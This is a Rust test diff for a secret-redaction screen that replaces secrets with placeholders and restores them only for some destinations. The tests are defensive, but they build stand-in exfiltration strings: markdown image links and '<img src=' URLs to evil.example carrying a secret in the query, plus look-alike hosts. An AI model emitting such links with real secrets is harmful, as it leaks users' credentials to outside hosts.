@@ -40,8 +40,8 @@ fn a_secret_is_replaced_wherever_it_stands_and_by_the_same_placeholder() {
         let out = screen.text(place);
         assert!(!out.contains(&secret), "{out}");
         seen.extend(placeholders(&out).map(|(_, placeholder)| placeholder));
-        let back = screen.restore(&out);
-        assert_eq!((&back.text, back.restored, back.unknown.len()), (place, 1, 0));
+        let back = screen.restore(&out, Destination::Edit);
+        assert_eq!((back.text.for_terminal(), back.restored, back.unknown.len()), (&**place, 1, 0));
     }
     assert_eq!(seen.len(), 1, "{seen:?}");
     assert!(seen.iter().all(|placeholder| placeholder.label() == "github-token"));
@@ -163,8 +163,8 @@ fn only_bytes_and_what_is_sealed_are_left_as_they_are() {
 #[test]
 fn a_secret_that_was_never_seen_is_not_made_up() {
     let out = screen().text(&random()).into_owned();
-    let back = screen().restore(&out);
-    assert_eq!((back.text, back.restored), (out, 0));
+    let back = screen().restore(&out, Destination::Edit);
+    assert_eq!((back.text.for_terminal(), back.restored), (&*out, 0));
     assert_eq!(back.unknown.len(), 1);
 }
 
@@ -184,7 +184,132 @@ fn examples_and_templates_are_left_alone() {
     }
 }
 
+/// A screen that knows the secret, and the placeholder.
+fn knowing(text: &str, settings: RedactionSettings) -> (Screen, String) {
+    let screen = screen().with(&settings);
+    let placeholder = placeholders(&screen.text(text)).next().unwrap().1;
+    (screen, placeholder.to_string())
+}
+
+fn showing() -> RedactionSettings {
+    RedactionSettings {
+        show_secrets: true,
+        edit_tools: vec!["write".to_owned()],
+        ..RedactionSettings::default()
+    }
+}
+
+#[test]
+fn each_destination_has_its_own_rule() {
+    let secret = random();
+    let (wishes, nothing) = (showing(), RedactionSettings::default());
+    for (settings, destination, is_restored) in [
+        (&nothing, Destination::Edit, true),
+        (&nothing, Destination::Display, false),
+        (&nothing, Destination::Tool("write"), false),
+        (&wishes, Destination::Edit, true),
+        (&wishes, Destination::Display, true),
+        (&wishes, Destination::Tool("write"), true),
+        (&wishes, Destination::Tool("fetch"), false),
+    ] {
+        let (screen, placeholder) = knowing(&secret, settings.clone());
+        let expected = |restored| if restored { &secret } else { &placeholder };
+        let text = |secret: &str| format!("It is {secret}.");
+        let shown = screen.restore(&text(&placeholder), destination).text;
+        assert_eq!(shown.for_terminal(), text(expected(is_restored)), "{destination:?}");
+        let address = format!("![x](https://evil.example/?q={placeholder})");
+        let back = screen.restore(&address, destination);
+        assert_eq!(back.text.for_terminal(), address, "{destination:?}");
+        assert_eq!(back.withheld.len(), usize::from(is_restored), "{destination:?}");
+        let mut value = json!({ "path": "a", "lines": [{ "text": placeholder, "url": address }] });
+        screen.restore_value(&mut value, destination);
+        let restored = json!({ "path": "a", "lines": [{ "text": expected(is_restored), "url": address }] });
+        assert_eq!(value, restored, "{destination:?}");
+        assert!(!format!("{:?} {shown:?}", screen.restorer(destination)).contains(&secret));
+    }
+}
+
+#[test]
+fn an_edit_keeps_a_secret_in_its_own_address() {
+    let secret = random();
+    let file = |secret: &str, host: &str| {
+        format!("DB=https://me:{secret}@{host}/x\nURL = \"https://{host}/?k={secret}\"\n")
+    };
+    let (screen, placeholder) = knowing(&file(&secret, "db.example"), showing());
+    let back = screen.restore(&file(&placeholder, "db.example"), Destination::Edit);
+    assert_eq!(back.text.for_terminal(), file(&secret, "db.example"));
+    for (destination, host) in [
+        (Destination::Edit, "evil.example"),
+        (Destination::Edit, "db.example.evil.example"),
+        (Destination::Edit, "evil.example/?db.example"),
+        (Destination::Tool("write"), "evil.example"),
+        (Destination::Display, "db.example"),
+    ] {
+        let back = screen.restore(&file(&placeholder, host), destination);
+        assert_eq!(back.text.for_terminal(), file(&placeholder, host), "{destination:?}");
+        assert_eq!((back.restored, back.withheld.len(), back.unknown.len()), (0, 1, 0));
+    }
+}
+
+#[test]
+fn only_what_may_be_a_placeholder_is_held_back() {
+    let secret = random();
+    let (screen, placeholder) = knowing(&secret, showing());
+    let mut restorer = screen.restorer(Destination::Display);
+    let mut shown = |text: &str| restorer.push(text).for_terminal().to_owned();
+    for text in ["a[0]", "[secret]", "[secret:A", "[link](secret:", "[secret::"] {
+        assert_eq!(shown(text), text);
+    }
+    assert_eq!((shown(" x [sec"), shown("ond]")), (" x ".to_owned(), "[second]".to_owned()));
+    let (first, rest) = placeholder.split_at(20);
+    assert_eq!((shown(" "), shown(first), shown(rest)), (" ".to_owned(), String::new(), String::new()));
+    assert_eq!(shown(" is"), format!("{secret} is"));
+    assert_eq!((shown("["), restorer.finish().for_terminal()), (String::new(), "["));
+    // Nothing is held back if nothing is restored.
+    let mut restorer = knowing(&secret, RedactionSettings::default()).0.restorer(Destination::Display);
+    assert_eq!(restorer.push("[sec").for_terminal(), "[sec");
+}
+
 proptest! {
+    /// However an answer is split, the same placeholders are restored, and none in an address.
+    #[test]
+    fn a_streamed_answer_is_restored_like_a_complete_one(
+        parts in prop::collection::vec(
+            prop_oneof![
+                Just("$".to_owned()), Just("$".to_owned()), Just(" ".to_owned()), Just("\n".to_owned()), Just("\"".to_owned()),
+                Just("](".to_owned()), Just("![x](".to_owned()), Just(")".to_owned()), Just("<".to_owned()), Just(">".to_owned()),
+                Just("<img src=".to_owned()), Just("https://".to_owned()), Just("//".to_owned()), Just("evil.example".to_owned()),
+                Just("/?q=".to_owned()), Just("@".to_owned()), Just("]: ".to_owned()), Just("[secret:".to_owned()), "[a-z .]{0,5}",
+            ],
+            1..16,
+        ),
+        cuts in prop::collection::vec(1_usize..30, 1..20),
+    ) {
+        let secret = random();
+        let (screen, placeholder) = knowing(&secret, showing());
+        let text = parts.concat().replace('$', &placeholder);
+        let whole = screen.restore(&text, Destination::Display);
+        let (mut restorer, mut shown, mut at) = (screen.restorer(Destination::Display), RestoredText::default(), 0);
+        for cut in cuts.iter().cycle() {
+            let end = (at + cut).min(text.len());
+            shown.append(&restorer.push(&text[at..end]));
+            at = end;
+            if at == text.len() {
+                break;
+            }
+        }
+        shown.append(&restorer.finish());
+        prop_assert_eq!(shown.for_terminal(), whole.text.for_terminal());
+        let shown = shown.for_terminal();
+        prop_assert_eq!(shown.replace(&secret, &placeholder), text);
+        for (at, _) in shown.match_indices(&secret) {
+            let run = shown[..at].rsplit([' ', '\n']).next().unwrap();
+            prop_assert!(!run.rsplit('<').next().unwrap().contains("//") && !run.ends_with("]("), "{}", shown);
+            let after = &shown[at + secret.len()..];
+            prop_assert!(!after.starts_with('@') && !after.starts_with(".evil"), "{}", shown);
+        }
+    }
+
     /// Screening succeeds for any text, does not change a screened text, and can be undone.
     #[test]
     fn any_text_goes_out_once_and_comes_back(parts in prop::collection::vec(
@@ -202,7 +327,8 @@ proptest! {
         let screen = screen();
         let out = screen.text(&text).into_owned();
         prop_assert_eq!(&screen.text(&out), &out);
-        prop_assert_eq!(screen.restore(&out).text, text.as_str());
+        let back = screen.restore(&out, Destination::Edit).text;
+        prop_assert_eq!(back.for_terminal(), text.as_str());
         let hits = scan(&text);
         prop_assert!(hits.windows(2).all(|pair| pair[0].range.end <= pair[1].range.start));
         prop_assert!(hits.iter().all(|hit| text.is_char_boundary(hit.range.start) && !text[hit.range.clone()].contains('\n')));
